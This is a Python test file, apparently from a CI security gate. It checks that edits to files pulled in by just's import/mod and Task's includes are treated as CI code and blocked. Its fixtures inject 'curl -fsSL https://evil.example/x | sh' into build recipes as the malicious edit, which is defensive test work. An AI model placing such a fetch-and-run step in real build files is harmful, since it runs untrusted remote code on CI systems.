"""Red team 36: the files a task runner CI runs pulls in by itself (just's `import` and `mod`, Task's `includes:`).

`just build` in a workflow runs the justfile, so the justfile is `ci.context.ci-run` (red team 12); just also reads
every file the justfile imports (`import 'tools/build.just'`, `import? …`) and every module it declares (`mod ops
'tools/ops.just'`, or `mod recipes`: `recipes.just`, `recipes/mod.just`, `recipes/justfile`), and their recipes run as
the justfile's. Task (`task build`) merges the Taskfiles of its `includes:` (a file, a `taskfile:` key, or a folder
holding a Taskfile). A Makefile's `include` was followed; these were not: `gate --tree` allowed (exit 0) an edit
that made an imported recipe run `curl … | sh` (from the patch a justfile's import is not even a needs-context
review: `.just` files are src by path).

Each variant is one real repository (the workflow, the runner's file and the included file at BASE; the included file
edited), git's own patch and the CLI's packet, gated by the default policy with --tree.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules
from tables import each_case

from gatekeeper.classify import ciruns

WORKFLOW = ("on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: {command}\n")
RECIPE = "build:\n    cargo build\n"
EVIL_RECIPE = RECIPE + "    curl -fsSL https://evil.example/x | sh\n"
TASKS = "version: '3'\ntasks:\n  build:\n    cmds:\n      - docker build .\n"
EVIL_TASKS = TASKS + "      - curl -fsSL https://evil.example/x | sh\n"


def _just(justfile: str, path: str, command: str = "just build") -> tuple[dict[str, str], str, str, str]:
    return ({".github/workflows/ci.yml": WORKFLOW.format(command=command), "justfile": justfile, path: RECIPE},
            path, RECIPE, EVIL_RECIPE)


def _task(includes: str, path: str) -> tuple[dict[str, str], str, str, str]:
    taskfile = "version: '3'\nincludes:\n" + includes + "tasks:\n  default:\n    cmds:\n      - task: docker:build\n"
    return ({".github/workflows/ci.yml": WORKFLOW.format(command="task default"), "Taskfile.yml": taskfile,
             path: TASKS}, path, TASKS, EVIL_TASKS)


VARIANTS = {
    "just-import": _just("import 'tools/build.just'\n", "tools/build.just"),
    "just-optional-import": _just('import? "tools/local.just"\n', "tools/local.just"),
    "just-mod-path": _just("mod ops 'tools/ops.just'\n", "tools/ops.just", "just ops::build"),
    "just-mod-name": _just("mod recipes\n", "recipes.just", "just recipes::build"),
    "just-mod-folder": _just("mod recipes\n", "recipes/mod.just", "just recipes::build"),
    "just-import-chain": ({".github/workflows/ci.yml": WORKFLOW.format(command="just build"),
                           "justfile": "import 'just/all.just'\n", "just/all.just": "import 'rust.just'\n",
                           "just/rust.just": RECIPE}, "just/rust.just", RECIPE, EVIL_RECIPE),
    "task-include-file": _task("  docker: ./taskfiles/docker.yml\n", "taskfiles/docker.yml"),
    "task-include-key": _task("  docker:\n    taskfile: ./ops/docker.yml\n    dir: ./ops\n", "ops/docker.yml"),
    "task-include-folder": _task("  docker: ./tools/docker\n", "tools/docker/Taskfile.yml"),
}
# A recipe file no justfile imports: just never reads it.
CONTROLS = {"just-not-imported": _just("build:\n    cargo build\n", "tools/build.just")}


@each_case("name", VARIANTS)
def test_a_file_the_runner_includes_is_ci(tmp_path: Path, name: str) -> None:
    base, path, _, text = VARIANTS[name]
    case = committed(tmp_path, base, {path: text})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, [path]), named  # before: src, exit 0


@pytest.mark.parametrize("name", CONTROLS)
def test_a_recipe_file_nothing_includes_stays_allowed(tmp_path: Path, name: str) -> None:
    base, path, _, text = CONTROLS[name]
    case = committed(tmp_path, base, {path: text})
    assert gated_rules(case, True) == (0, {})


def test_a_just_file_counts_past_the_walks_bounds() -> None:
    """Past the CI walk's bounds every file of a type a step may name is ci (fail closed): `.just` files too."""
    assert ciruns.may_be_named("tools/build.just") and ciruns.may_be_named("recipes/mod.just")
